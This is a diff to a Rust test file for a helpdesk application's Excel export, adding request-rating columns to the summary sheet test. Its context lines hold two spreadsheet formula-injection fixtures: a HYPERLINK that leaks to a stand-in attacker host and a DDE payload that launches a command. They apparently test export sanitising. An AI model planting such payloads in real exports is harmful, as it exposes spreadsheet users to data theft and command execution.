@@ -299,6 +299,11 @@ fn populated() -> Workdir {
     requests::reject(&app, &Actor::Telegram(SUPPORT), repair.id, "Дубликат; см. HD-000001 & <прочее>").unwrap();
     requests::archive(&app, &op, repair.id).unwrap();
     file(Kind::ItHelp, "  пробелы по краям  ", vec![]);
+    // Done and rated 4 by its author (at Lviv): the Summary's ratings.
+    let rated = file(Kind::ItHelp, "Настроить почту", vec![]);
+    requests::accept(&app, &Actor::Telegram(SUPPORT), rated.id).unwrap();
+    requests::complete(&app, &Actor::Telegram(SUPPORT), rated.id).unwrap();
+    helpdesk::services::ratings::rate(&app, &Actor::Telegram(author), rated.id, 4, Some("хорошо")).unwrap();
     file(Kind::ItHelp, "=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")", vec![]);
     file(Kind::Maintenance, "@SUM(1+1)*cmd|' /C calc'!A0", vec![]);
     let mut tx = store.write().unwrap();
@@ -370,8 +375,16 @@ fn the_workbook_holds_every_request_cell_by_cell() {
     let heads = header(&summary[0]);
     assert_eq!(heads[..3], ["branch", "branch_name", "requests"]);
     assert_eq!(
-        heads[heads.len() - 5..],
-        ["avg_to_accept", "avg_to_close", "sla_breaches", "avg_to_accept_working", "avg_to_close_working"]
+        heads[heads.len() - 7..],
+        [
+            "avg_to_accept",
+            "avg_to_close",
+            "sla_breaches",
+            "avg_to_accept_working",
+            "avg_to_close_working",
+            "ratings",
+            "rating_avg"
+        ]
     );
     let col = |name: &str| heads.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"));
     let branches = w.int("SELECT count(*) FROM branches") as usize;
@@ -415,6 +428,9 @@ fn the_workbook_holds_every_request_cell_by_cell() {
         let unsure = mine.iter().filter(|e| e.breached().is_none()).count() as f64;
         let got = num("sla_breaches");
         assert!(got >= sure && got <= sure + unsure, "{code} breaches {got}, want {sure} (+{unsure})");
+        let rated = code == "TOTAL" || code == "LVIV";
+        assert_eq!(num("ratings"), if rated { 1.0 } else { 0.0 }, "{code}");
+        assert!(if rated { num("rating_avg") == 4.0 } else { num("rating_avg").is_nan() }, "{code}");
     }
     assert_eq!(summary.last().unwrap()[0], Data::String("TOTAL".into()));
 
